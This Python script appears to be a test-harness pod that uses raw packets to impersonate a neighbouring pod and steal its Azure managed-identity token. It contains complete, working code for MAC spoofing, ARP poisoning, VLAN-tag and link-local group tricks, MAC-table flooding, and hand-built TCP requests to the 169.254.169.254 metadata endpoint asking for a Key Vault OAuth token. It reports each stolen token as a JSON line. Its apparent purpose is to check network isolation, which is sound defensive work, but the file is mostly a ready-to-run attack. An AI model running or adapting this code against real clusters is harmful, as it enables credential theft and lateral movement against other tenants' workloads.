# A pod that poses as its neighbour by packets it makes itself (AF_PACKET, hence NET_RAW alone). It prints a JSON line with `ready`, then one for
# each token of the neighbour's that it gets to see, and on SIGTERM a last one with what it sent and saw.
# Arguments: kind, the neighbour's address and MAC, the node's address on the bridge and its MAC, milliseconds between two frames.
#   mac       frames with the neighbour's MAC as their source, so that the bridge sends the neighbour's answers here
#   group     the same to the group of LLDP, from which bridges learn before any hook sees them
#   pause     the same to a link-local group that passes the hook for the node itself
#   tagged    the same behind a VLAN tag of priority alone
#   arp       replies that say the neighbour's address is at this pod's own MAC; what comes is handed on to the neighbour
#   raw       asks for a token itself: TCP by hand, from the neighbour's address and this pod's own MAC
#   rawmac    the same from the neighbour's MAC too
#   overflow  frames of ever new MACs, so that the bridge forgets the neighbour's and floods
import json, os, random, select, signal, socket, struct, sys, time

kind, victim_ip, victim_mac, node_ip, node_mac, every_ms = sys.argv[1:7]
imds_ip, imds_port = "169.254.169.254", 80
every = float(every_ms) / 1000
device = "eth0"
victim = socket.inet_aton(victim_ip)
node = socket.inet_aton(node_ip)
vmac = bytes.fromhex(victim_mac.replace(":", ""))
nmac = bytes.fromhex(node_mac.replace(":", ""))
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
sock.bind((device, 0))
own = sock.getsockname()[4]
# PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC
sock.setsockopt(263, 1, struct.pack("iHH8s", socket.if_nametoindex(device), 1, 0, b""))
sock.setblocking(False)
sent = refused = stolen = seen = 0
over = False


def stop(*_):
    global over
    over = True


signal.signal(signal.SIGTERM, stop)


def send(frame):
    global sent, refused
    try:
        sock.send(frame)
        sent += 1
    except OSError:
        refused += 1


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def whole(ip_packet):
    # A veth leaves the sum of TCP to a card that never comes; whoever gets the packet from elsewhere drops it without.
    ihl = (ip_packet[0] & 15) * 4
    tcp = ip_packet[ihl : struct.unpack("!H", ip_packet[2:4])[0]]
    tcp = tcp[:16] + b"\0\0" + tcp[18:]
    pseudo = ip_packet[12:20] + struct.pack("!BBH", 0, 6, len(tcp))
    return ip_packet[:ihl] + tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def packet(source_mac, sport, seq, ack, flags, payload=b""):
    target = socket.inet_aton(imds_ip)
    tcp = struct.pack("!HHIIBBHHH", sport, imds_port, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4, flags, 64000, 0, 0)
    pseudo = victim + target + struct.pack("!BBH", 0, 6, len(tcp) + len(payload))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + payload)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40 + len(payload), random.getrandbits(16), 0x4000, 64, 6, 0, victim, target)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return nmac + source_mac + b"\x08\x00" + ip + tcp + payload


def arp(operation, target_mac, target_ip, dest=None):
    return (
        (dest or target_mac) + own + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + own + victim + target_mac + target_ip
    )


def udp_frame(source_mac, source_ip):
    body = struct.pack("!HHHH", 4000, 9, 8, 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 1, 17, 0, source_ip, node)
    return nmac + source_mac + b"\x08\x00" + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + body


own_request = {"port": None, "seq": 0, "at": 0.0}


def begin():
    own_request.update(port=random.randint(20000, 60000), seq=random.getrandbits(31), at=time.monotonic())
    send(packet(source(), own_request["port"], own_request["seq"], 0, 0x02))


def source():
    return vmac if kind == "rawmac" else own


def attack():
    if kind == "mac":
        send(udp_frame(vmac, victim))
    elif kind == "group":
        send(bytes.fromhex("0180c200000e") + vmac + b"\x88\xcc" + b"\0" * 46)
    elif kind == "pause":
        send(bytes.fromhex("0180c2000002") + vmac + b"\x88\x09" + b"\0" * 46)
    elif kind == "tagged":
        frame = udp_frame(vmac, victim)
        send(frame[:12] + b"\x81\x00\x00\x00" + frame[12:])
    elif kind == "arp":
        send(arp(2, nmac, node))
    elif kind in ("raw", "rawmac"):
        if kind == "raw":
            send(arp(2, nmac, node))
        if time.monotonic() - own_request["at"] > 0.2:
            begin()
    elif kind == "overflow":
        for _ in range(50):
            send(udp_frame(b"\x06" + os.urandom(5), victim))


REQUEST = (
    b"GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net HTTP/1.1\r\n"
    b"Host: 169.254.169.254\r\nMetadata: true\r\nConnection: close\r\n\r\n"
)


def hear(frame):
    global stolen, seen
    if frame[12:14] == b"\x08\x06" and kind == "raw" and frame[20:22] == b"\0\1" and frame[38:42] == victim:
        send(arp(2, frame[22:28], frame[28:32]))
    if frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[30:34] != victim:
        return
    seen += 1
    if kind == "arp" and frame[:6] == own:
        send(vmac + own + frame[12:14] + whole(frame[14:]))
    ihl = (frame[14] & 15) * 4
    tcp = frame[14 + ihl :]
    sport, dport, seq, ack = struct.unpack("!HHII", tcp[:12])
    payload = tcp[(tcp[12] >> 4) * 4 : struct.unpack("!H", frame[16:18])[0] - ihl]
    if b"access_token" in payload:
        stolen += 1
        print(json.dumps({"token": True, "kind": kind, "at": time.time()}), flush=True)
    if sport == imds_port and dport == own_request["port"]:
        if tcp[13] & 0x12 == 0x12:
            send(packet(source(), dport, ack, seq + 1, 0x18, REQUEST))
        elif payload:
            send(packet(source(), dport, ack, seq + len(payload), 0x10))


print(json.dumps({"ready": True}), flush=True)
after = time.monotonic()
while not over:
    now = time.monotonic()
    if now >= after:
        attack()
        after = max(after + every, now - 0.01)
    ready, _, _ = select.select([sock], [], [], max(0, after - time.monotonic()))
    if ready:
        for _ in range(64):
            try:
                frame, address = sock.recvfrom(65535)
            except BlockingIOError:
                break
            if address[2] != 4:
                hear(frame)
print(json.dumps({"kind": kind, "sent": sent, "refused": refused, "seen": seen, "stolen": stolen}), flush=True)
